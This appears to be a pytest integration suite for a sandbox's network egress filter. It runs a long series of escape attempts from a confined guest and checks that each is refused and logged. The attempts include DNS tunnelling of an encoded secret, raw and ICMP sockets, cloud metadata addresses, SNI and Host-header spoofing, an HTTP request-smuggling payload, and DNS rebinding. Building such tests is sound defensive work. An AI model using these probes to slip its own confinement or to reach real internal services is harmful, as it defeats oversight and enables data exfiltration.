"""Out by the network: every way but the allowed ones, each failing, and each in the log where the guest's kernel lets
the attempt be seen."""

from __future__ import annotations

import pytest

from tests.escape.conftest import Confined

pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(120)]


async def test_what_is_allowed_works_with_ordinary_programs(confined: Confined) -> None:
    """The suite's own control: were everything dead, every escape would fail."""
    await confined.allow("site.example.com", "site.example.com:7", "site.example.com:22")
    ca = confined.world.ca_file.read_bytes()
    await confined.machine.guest.write_file("/tmp/ca.pem", ca)
    said = await confined.bash(
        'curl -sS --cacert /tmp/ca.pem https://site.example.com/hello | grep -o \'"target": "[^"]*"\''
    )
    assert said == '"target": "/hello"'
    said = await confined.bash("curl -sS -o /dev/null -w '%{http_code}' http://site.example.com/")
    assert said == "200"
    assert "220 ready" in await confined.python('print(socket.create_connection(("site.example.com", 22)).recv(99))')
    places = {(data.host, data.port, data.rule) for data in confined.events("egress.connected")}
    assert ("site.example.com", 443, "site.example.com") in places
    assert ("site.example.com", 22, "site.example.com:22") in places


async def test_nothing_is_allowed_where_nobody_allowed_it(confined: Confined) -> None:
    await confined.allow()
    said = await confined.python(
        """
        attempt("name", tcp, "api.example.com", 80)
        attempt("known a moment ago", tcp, "site.example.com", 80)
        attempt("address", tcp, "8.8.8.8", 443)
        attempt("fake", tcp, "198.18.0.1", 80)
        """
    )
    assert "GOT" not in said
    await confined.refused("api.example.com", protocol="dns", reason="not_allowed")
    await confined.refused("8.8.8.8", 443, reason="not_allowed")


async def test_names(confined: Confined) -> None:
    """A name is a way out for what is written in it, so nobody resolves one but to connect to it."""
    await confined.allow("site.example.com", "*.wild.example.com")
    said = await confined.python(
        r"""
        def query(name, server, kind=1, stream=False):
            body = b"".join(bytes([len(label)]) + label for label in name.encode().split(b".")) + b"\0"
            data = b"\0\7\1\0\0\1\0\0\0\0\0\0" + body + struct.pack("!HH", kind, 1)
            line = socket.socket(socket.AF_INET, socket.SOCK_STREAM if stream else socket.SOCK_DGRAM)
            line.settimeout(5)
            line.connect((server, 53))
            line.sendall(struct.pack("!H", len(data)) + data if stream else data)
            answer = line.recv(512)
            return (answer[3] & 15 == 0 and answer[7]) if answer else 0
        for server in ("127.0.0.1", "8.8.8.8", "169.254.169.253"):
            attempt(f"below at {server}", query, "c2VjcmV0.site.example.com", server)
            attempt(f"other at {server}", query, "c2VjcmV0.tunnel.example.org", server)
            attempt(f"text at {server}", query, "site.example.com", server, 16)
        attempt("by tcp", query, "site.example.com", "8.8.8.8", 1, True)
        """
    )
    assert "GOT" not in said
    await confined.refused("c2vjcmv0.site.example.com", protocol="dns", reason="not_allowed")
    await confined.refused("c2vjcmv0.tunnel.example.org", protocol="dns")
    await confined.refused("8.8.8.8", 53, reason="not_allowed")
    # Below a wildcard a name is answered with an address of the guest's own, and no server of the world hears of it.
    said = await confined.python('print(socket.gethostbyname("c2vjcmv0.wild.example.com"))')
    assert said.startswith("198.18.")


async def test_anything_but_tcp(confined: Confined) -> None:
    await confined.allow("site.example.com:*")
    said = await confined.python(
        rf"""
        def send(family, kind, protocol, address, data=b"x"):
            line = socket.socket(family, kind, protocol)
            line.settimeout(0.5)
            line.connect(address)
            line.send(data)
            return line.recv(1000)
        there = socket.gethostbyname("site.example.com")
        for host in ("1.1.1.1", there, "{confined.world.public}"):
            attempt(f"udp {{host}}", send, socket.AF_INET, socket.SOCK_DGRAM, 0, (host, 443))
            attempt(f"ping {{host}}", send, socket.AF_INET, socket.SOCK_DGRAM, 1, (host, 0), b"\x08\0\0\0\0\1\0\1hello")
            attempt(f"icmp {{host}}", send, socket.AF_INET, socket.SOCK_RAW, 1, (host, 0), b"\x08\0\0\0\0\1\0\1hello")
            attempt(f"raw {{host}}", send, socket.AF_INET, socket.SOCK_RAW, 255, (host, 0))
        attempt("sctp", send, socket.AF_INET, socket.SOCK_STREAM, 132, (there, 7))
        attempt("ipv6", tcp, "{confined.world.public6}", 80)
        attempt("ping6", send, socket.AF_INET6, socket.SOCK_DGRAM, 58, ("{confined.world.public6}", 0))
        attempt("multicast", send, socket.AF_INET, socket.SOCK_DGRAM, 0, ("224.0.0.251", 5353))
        attempt("broadcast", send, socket.AF_INET, socket.SOCK_DGRAM, 0, ("255.255.255.255", 67))
        attempt("frames", lambda: socket.socket(17, socket.SOCK_RAW, 3))
        attempt("vsock", send, getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM, 0, (2, 1024))
        """
    )
    assert "GOT" not in said
    assert said.count("PermissionError") >= 7
    await confined.refused("1.1.1.1", None, protocol="udp", reason="protocol")


async def test_odd_ports_and_bare_addresses(confined: Confined) -> None:
    await confined.allow("site.example.com")
    world = confined.world
    said = await confined.python(
        f"""
        for port in (7, 22, 5001, 8080, 1, 65535):
            attempt(f"odd {{port}}", tcp, "site.example.com", port)
        for host in ("{world.public}", "{world.private}", "{world.own}", "169.254.169.254", "10.0.0.1"):
            attempt(f"bare {{host}}", tcp, host, 80)
        attempt("mapped", tcp, "::ffff:{world.public}", 80)
        attempt("number", tcp, str(int.from_bytes(socket.inet_aton("{world.public}"), "big")), 80)
        """
    )
    assert "GOT" not in said
    for port in (7, 22, 5001, 8080, 1, 65535):
        await confined.refused("site.example.com", port, reason="not_allowed", rule="")
    for host in (world.public, world.private, world.own, "169.254.169.254"):
        await confined.refused(host, 80, reason="not_allowed")


async def test_an_allowed_name_is_no_bridge_to_another(confined: Confined) -> None:
    """Another name at the same address: in TLS, in HTTP, by a proxy's methods."""
    await confined.allow("site.example.com:*")
    said = await confined.python(
        r"""
        attempt("server name", tls, "site.example.com", 443, "other.example.com")
        attempt("no server name", tls, "site.example.com", 443, None)
        attempt("by address", tls, "site.example.com", 8443, "1.2.3.4")
        attempt("no tls", tcp, "site.example.com", 443, b"hello\r\n\r\n")
        def http(request):
            answer = tcp("site.example.com", 80, request)
            return b"" if answer.startswith(b"HTTP/1.1 403") or answer.startswith(b"HTTP/1.1 400") else answer
        attempt("host", http, b"GET / HTTP/1.1\r\nHost: other.example.com\r\n\r\n")
        attempt("two hosts", http, b"GET / HTTP/1.1\r\nHost: site.example.com\r\nHost: other.example.com\r\n\r\n")
        attempt("absolute", http, b"GET http://other.example.com/ HTTP/1.1\r\nHost: site.example.com\r\n\r\n")
        attempt("connect", http, b"CONNECT other.example.com:443 HTTP/1.1\r\nHost: site.example.com\r\n\r\n")
        attempt("smuggled", http, b"POST / HTTP/1.1\r\nHost: site.example.com\r\nContent-Length: 4\r\n"
                b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: other.example.com\r\n\r\n")
        attempt("prior knowledge", http, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
        line = socket.create_connection(("site.example.com", 80), 5)
        line.sendall(b"GET / HTTP/1.1\r\nHost: site.example.com\r\n\r\n")
        line.recv(100_000)
        line.sendall(b"GET / HTTP/1.1\r\nHost: other.example.com\r\n\r\n")
        print("second request", line.recv(12).decode())
        """
    )
    assert "GOT" not in said, said
    assert "second request HTTP/1.1 403" in said
    await confined.refused("site.example.com", 443, reason="wrong_name")
    await confined.refused("site.example.com", 443, reason="no_name")
    await confined.refused("site.example.com", 443, reason="protocol")
    await confined.refused("site.example.com", 80, reason="wrong_name")
    await confined.refused("site.example.com", 80, reason="protocol")


async def test_a_name_that_an_allowed_entry_has_leads_to_no_private_address(confined: Confined) -> None:
    """The names are allowed; where they lead is not."""
    names = [name for name in NOT_PUBLIC if name != "both.example.com"]
    await confined.allow(*names, *(f"{name}:*" for name in names), "own.example.com:*", "private.example.com:*")
    said = await confined.python(
        f"""
        for name in {[*names, "own.example.com", "private.example.com"]}:
            attempt(name, tcp, name, 80)
        """
    )
    assert "GOT" not in said
    for name in (*names, "own.example.com", "private.example.com"):
        await confined.refused(name, 80, reason="private_address")


async def test_a_name_that_changes_its_address_after_it_was_looked_at(
    confined: Confined, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Resolved once for each connection, and connected to as it was judged."""
    from ipaddress import ip_address

    from actors.egress import names

    answers = [confined.world.public, "127.0.0.1", confined.world.private, confined.world.own]
    asked: list[str] = []

    def rebinding(name: str) -> list[object]:
        asked.append(name)
        return [ip_address(answers[(len(asked) - 1) % len(answers)])]

    monkeypatch.setattr(names, "_look_up", rebinding)
    await confined.allow("rebind.example.com:7")
    said = await confined.python(
        """
        for turn in range(4):
            attempt(f"turn {turn}", tcp, "rebind.example.com", 7, b"echo")
        """
    )
    assert said.splitlines() == [
        "turn 0 GOT b'echo'",
        "turn 1 ConnectionResetError",
        "turn 2 ConnectionResetError",
        "turn 3 ConnectionResetError",
    ]
    assert asked == ["rebind.example.com"] * 4
    assert (await confined.refused("rebind.example.com", 7, reason="private_address")).rule == "rebind.example.com:7"


NOT_PUBLIC = {
    "loopback.example.com": ["127.0.0.1"],
    "ten.example.com": ["10.0.0.1"],
    "metadata.example.com": ["169.254.169.254"],
    "loopback6.example.com": ["::1"],
    "mapped.example.com": ["::ffff:127.0.0.1"],
    "nothing.example.com": ["0.0.0.0"],
    "translated.example.com": ["64:ff9b::7f00:1"],
    "unique.example.com": ["fd00::1"],
    "shared.example.com": ["100.64.0.1"],
    "azure.example.com": ["168.63.129.16"],
}


@pytest.fixture(scope="module")
def pins(world: object) -> dict[str, list[str]]:
    pinned: dict[str, list[str]] = dict(getattr(world, "pins", {}))
    return pinned | NOT_PUBLIC
